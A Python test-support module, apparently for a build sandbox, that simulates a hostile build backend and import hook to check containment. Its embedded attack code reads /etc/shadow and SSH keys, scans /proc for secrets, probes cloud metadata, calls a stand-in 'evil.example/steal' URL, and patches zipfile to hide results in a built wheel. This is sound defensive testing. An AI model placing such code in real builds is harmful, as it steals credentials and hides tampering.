"""What a hostile build script or start-up hook tries. Harmless: it touches marker files and knocks at our own doors."""

from __future__ import annotations

import json
import socket
import threading
from pathlib import Path
from typing import Any

ATTACK = r'''
import glob, json, os, socket, sys, urllib.request

def attack(goal):
    """The names of what worked, and what failed with its reason."""
    worked, failed = [], {}

    def attempt(name, function, *arguments):
        try:
            answer = function(*arguments)
        except BaseException as error:
            failed[name] = "%s: %s" % (type(error).__name__, error)
        else:
            worked.append("%s %r" % (name, answer))

    def write(path):
        with open(path, "w") as file:
            file.write("was here")
        return path

    def read(path):
        with open(path, "rb") as file:
            return file.read(100)

    def connect(family, address):
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(3)
            one.connect(address)
            one.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return address

    def send(family, address):
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            query = b"\x00\x01\x01\x00\x00\x01" + bytes(6) + b"\x04evil\x07example\x00\x00\x01\x00\x01"
            if one.sendto(query, address):
                one.settimeout(1)
                return one.recv(10)

    def by_proxy(text):
        host, port = os.environ["HTTPS_PROXY"].rpartition("/")[2].split(":")
        with socket.create_connection((host, int(port)), timeout=3) as one:
            one.sendall(text.encode())
            answer = one.recv(1000).decode()
        if not answer.startswith("HTTP/1.1 20"):
            raise OSError(answer.splitlines()[0] if answer else "no answer")
        return answer

    def find(text):
        """Where the host's secrets or processes can be seen."""
        places = []
        names = ("environ", "cmdline", "maps")
        for path in [path for name in names for path in glob.glob("/proc/[0-9]*/" + name)]:
            try:
                with open(path, "rb") as file:
                    if text.encode() in file.read():
                        places.append(path)
            except OSError:
                pass
        if not places:
            raise OSError("nowhere")
        return places

    for path in goal["writes"]:
        try:
            write(path)  # may be seen to work, in a folder of the cage's own; whether it did is seen from outside
        except OSError:
            pass
    for path in [sys.base_prefix + "/lib/mark.pth", "/etc/mark", "/usr/lib/mark", "/dev/mark"]:
        attempt("write " + path, write, path)
    for path in goal["reads"] + ["/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/root/etc/shadow", "/var/run/docker.sock"]:
        attempt("read " + path, read, path)
    for text in goal["secrets"]:
        attempt("find " + text, find, text[::-1])  # backwards, so that it does not find itself
    for name in os.environ:
        if name.startswith("MOP_") and name != "MOP_BUILD":
            attempt("variable " + name, os.environ.get, name)
    port, datagrams = goal["tcp"], goal["udp"]
    attempt("tcp loopback", connect, socket.AF_INET, ("127.0.0.1", port))
    attempt("tcp loopback 6", connect, socket.AF_INET6, ("::1", port))
    attempt("tcp any", connect, socket.AF_INET, ("0.0.0.0", port))
    attempt("tcp elsewhere", connect, socket.AF_INET, ("192.0.2.1", 80))
    attempt("tcp metadata", connect, socket.AF_INET, ("169.254.169.254", 80))
    attempt("unix", connect, socket.AF_UNIX, goal["unix"])
    attempt("unix abstract", connect, socket.AF_UNIX, "\0" + goal["abstract"])
    attempt("udp loopback", send, socket.AF_INET, ("127.0.0.1", datagrams))
    attempt("udp elsewhere", send, socket.AF_INET, ("192.0.2.53", 53))
    attempt("name", socket.getaddrinfo, "evil.example", 443)
    attempt("raw socket", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
    attempt("packet socket", socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
    for one in ("CONNECT evil.example:443", "CONNECT 127.0.0.1:%d" % port, "GET http://127.0.0.1:%d/" % port,
                "GET http://169.254.169.254/latest/meta-data/", "CONNECT 192.0.2.1:443"):
        attempt("proxy " + one, by_proxy, one + " HTTP/1.1\r\n\r\n")
    attempt("url", urllib.request.urlopen, "http://evil.example/steal?" + "x" * 100, None, 3)
    return {"worked": worked, "failed": failed}
'''


def in_a_build(goal: dict[str, Any]) -> str:
    """The start of a build backend: attacks, builds its wheel as if nothing was, and leaves the result in it."""
    return f"""{ATTACK}
_write = zipfile.ZipFile.writestr
def _leave(archive, path, content):
    if path.endswith(".py"):
        content += "result = %r\\n" % json.dumps(attack({goal!r}))
    return _write(archive, path, content)
zipfile.ZipFile.writestr = _leave
"""


def at_a_start(goal: dict[str, Any]) -> str:
    """The text of a module that attacks when it is imported, and prints the result."""
    return f"{ATTACK}\nprint('hook ' + json.dumps(attack({goal!r})))\n"


class Witness:
    """Services of the host that nobody may reach: TCP, UDP and unix sockets; `visits` says who came."""

    def __init__(self, folder: Path) -> None:
        self.visits: list[str] = []
        self.path = str(folder / "unix")
        self.abstract = f"mop-witness-{folder.name}"
        self._sockets = {
            "tcp": self._bound(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
            "udp": self._bound(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
            "unix": self._bound(socket.AF_UNIX, socket.SOCK_STREAM, self.path),
            "abstract": self._bound(socket.AF_UNIX, socket.SOCK_STREAM, f"\0{self.abstract}"),
        }
        self._threads = [threading.Thread(target=self._watch, args=pair) for pair in self._sockets.items()]
        for thread in self._threads:
            thread.start()

    @property
    def goal(self) -> dict[str, Any]:
        """Where it listens."""
        ports = {name: self._sockets[name].getsockname()[1] for name in ("tcp", "udp")}
        return {**ports, "unix": self.path, "abstract": self.abstract}

    def close(self) -> None:
        for one in self._sockets.values():
            one.shutdown(socket.SHUT_RDWR) if one.type == socket.SOCK_STREAM else self._wake(one)
            one.close()
        for thread in self._threads:
            thread.join()

    @staticmethod
    def _wake(datagrams: socket.socket) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"", datagrams.getsockname())

    @staticmethod
    def _bound(family: int, kind: int, address: Any) -> socket.socket:
        made = socket.socket(family, kind)
        made.bind(address)
        if kind == socket.SOCK_STREAM:
            made.listen()
        return made

    def _watch(self, name: str, one: socket.socket) -> None:
        while True:
            try:
                if one.type == socket.SOCK_STREAM:
                    one.accept()[0].close()
                else:
                    text, caller = one.recvfrom(100)
                    if not text:
                        return
                    one.sendto(b"heard", caller)
            except OSError:
                return
            self.visits.append(name)


def result_of(text: str) -> dict[str, Any]:
    """What an attack brought, from its JSON."""
    loaded: dict[str, Any] = json.loads(text)
    return loaded
